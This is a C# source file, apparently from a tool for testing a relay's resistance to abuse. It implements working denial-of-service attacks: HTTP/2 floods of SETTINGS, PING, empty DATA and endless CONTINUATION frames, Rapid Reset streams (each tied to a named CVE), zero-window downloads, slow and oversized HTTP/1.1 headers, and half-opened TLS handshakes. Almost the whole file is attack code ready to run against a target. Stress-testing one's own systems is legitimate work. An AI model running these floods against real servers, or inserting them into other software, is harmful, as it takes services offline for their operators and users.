using System.Buffers.Binary;
using System.Text;
using Relay.Abuse.Wire;

namespace Relay.Abuse.Attacks;

/// <summary>Frames of HTTP/2 (RFC 9113 §4.1), as the attacks need them.</summary>
internal static class H2
{
    public const byte Data = 0;
    public const byte Headers = 1;
    public const byte Reset = 3;
    public const byte Settings = 4;
    public const byte Ping = 6;
    public const byte Continuation = 9;

    public const byte EndHeaders = 4;

    /// <summary>What a client says first.</summary>
    public static byte[] Preface { get; } = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])];

    /// <summary>CONNECT to a target, by HPACK without its tables.</summary>
    public static byte[] Connect(EndPoint target)
    {
        var authority = Encoding.ASCII.GetBytes($"{target}");
        return [2, 7, .. "CONNECT"u8, 1, (byte)authority.Length, .. authority];
    }

    public static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        byte[] frame =
        [
            (byte)(payload.Length >> 16), (byte)(payload.Length >> 8), (byte)payload.Length, type, flags, 0, 0, 0, 0, .. payload,
        ];
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        return frame;
    }

    /// <summary>A connection on which the preface was said.</summary>
    public static TlsPeer? Begin(Assault assault, ReadOnlySpan<byte> more = default)
    {
        var peer = assault.ConnectTls("h2");
        peer?.Send([.. Preface, .. more]);
        return peer;
    }
}

/// <summary>The same bytes over and over.</summary>
internal abstract class Http2Flood(string name, string what) : Attack(name, what)
{
    private const int AtOnce = 100;

    public override void Run(Assault assault)
    {
        var bytes = Enumerable.Repeat(Frame(), AtOnce).SelectMany(static frame => frame).ToArray();
        assault.OnEach(() => H2.Begin(assault, First()), peer =>
        {
            peer.Drain();
            if (peer.Send(bytes))
                assault.Done += AtOnce;
            return !peer.IsOver;
        });
    }

    protected virtual byte[] First() => [];

    protected abstract byte[] Frame();
}

internal sealed class Http2Settings() : Http2Flood("h2-settings", "SETTINGS over and over, over HTTP/2 (CVE-2019-9515)")
{
    protected override byte[] Frame() => H2.Frame(H2.Settings, 0, 0, [0, 4, 0, 1, 0, 0]);
}

internal sealed class Http2Pings() : Http2Flood("h2-pings", "PING over and over, over HTTP/2 (CVE-2019-9512)")
{
    protected override byte[] Frame() => H2.Frame(H2.Ping, 0, 0, new byte[8]);
}

internal sealed class Http2EmptyData() : Http2Flood("h2-empty-data", "DATA without a byte, over HTTP/2 (CVE-2019-9518)")
{
    protected override byte[] First() =>
        H2.Frame(H2.Headers, H2.EndHeaders, 1, H2.Connect(new IPEndPoint(IPAddress.Loopback, 9)));

    protected override byte[] Frame() => H2.Frame(H2.Data, 0, 1, []);
}

internal sealed class Http2Continuations() : Http2Flood("h2-continuations", "CONTINUATION without an end, over HTTP/2 (CVE-2024-27316)")
{
    protected override byte[] First() => H2.Frame(H2.Headers, 0, 1, [0x82]);

    protected override byte[] Frame() => H2.Frame(H2.Continuation, 0, 1, [0, 1, (byte)'a', 1, (byte)'b']);
}

/// <summary>Requests that are reset at once.</summary>
internal sealed class Http2Resets() : Attack("h2-resets", "CONNECT and RST_STREAM, over HTTP/2 (CVE-2023-44487)")
{
    public override void Run(Assault assault)
    {
        var request = H2.Connect(assault.Targets.Holder);
        var next = new Dictionary<TlsPeer, int>();
        assault.OnEach(() => H2.Begin(assault), peer =>
        {
            var stream = next.GetValueOrDefault(peer, 1);
            var frames = new List<byte>();
            for (var i = 0; i < 50; i++, stream += 2, assault.Done++)
            {
                frames.AddRange(H2.Frame(H2.Headers, H2.EndHeaders, stream, request));
                frames.AddRange(H2.Frame(H2.Reset, 0, stream, [0, 0, 0, 8]));
            }
            next[peer] = stream;
            peer.Drain();
            peer.Send([.. frames]);
            return !peer.IsOver;
        });
    }
}

/// <summary>Downloads by a client whose windows are never opened, and which reads nothing.</summary>
internal sealed class Http2Windows() : Attack("h2-windows", "downloads over HTTP/2 whose windows stay 0")
{
    public override void Run(Assault assault)
    {
        var request = H2.Connect(assault.Targets.Source);
        assault.OnEach(
            () =>
            {
                var frames = new List<byte>(H2.Frame(H2.Settings, 0, 0, [0, 4, 0, 0, 0, 0]));
                for (var stream = 1; stream < 128; stream += 2, assault.Done++)
                    frames.AddRange(H2.Frame(H2.Headers, H2.EndHeaders, stream, request));
                return H2.Begin(assault, [.. frames]);
            },
            static peer =>
            {
                Thread.Sleep(1);
                return peer.Send(H2.Frame(H2.Data, 0, 1, [0])) && !peer.IsOver;
            });
    }
}

/// <summary>Heads that never end, a byte at a time.</summary>
internal sealed class SlowHeads() : Attack("slow-heads", "heads of HTTP/1.1 that come a byte at a time and never end")
{
    public override void Run(Assault assault) => assault.OnEach(() => assault.ConnectTls("http/1.1"), peer =>
    {
        Thread.Sleep(5);
        peer.Drain();
        if (peer.Send("C"u8))
            assault.Done++;
        return !peer.IsOver;
    });
}

/// <summary>Heads as large as may be, over and over.</summary>
internal sealed class LargeHeads() : Attack("large-heads", "heads of HTTP/1.1 of 16 KiB without an end")
{
    public override void Run(Assault assault)
    {
        var head = Encoding.ASCII.GetBytes("CONNECT a.invalid:1 HTTP/1.1\r\nX: " + new string('x', 16_000));
        assault.OnEach(() => assault.ConnectTls("http/1.1"), peer =>
        {
            peer.Drain();
            if (peer.Send(head))
                assault.Done++;
            return !peer.IsOver;
        });
    }
}

/// <summary>TCP connections on which TLS is begun, or not even that.</summary>
internal sealed class HalfTls() : Attack("tls-handshakes", "TLS over TCP that is begun with three bytes and left")
{
    /// <summary>A TLS session.</summary>
    public override int Bound => 256;

    /// <summary>An eighth of --max-tls-handshakes.</summary>
    public override int HeldOf(int connections) => 512;

    public override void Run(Assault assault)
    {
        var left = new Queue<Socket>();
        while (!assault.IsOver)
        {
            if (assault.ConnectTcp() is not { } socket)
                continue;
            try
            {
                socket.Send([22, 3, 1]);
                assault.Done++;
            }
            catch (SocketException)
            {
                // Ended at once.
            }
            left.Enqueue(socket);
            if (left.Count > assault.MaxConnections * 10)
                left.Dequeue().Dispose();
        }
        while (left.TryDequeue(out var socket))
            socket.Dispose();
    }
}
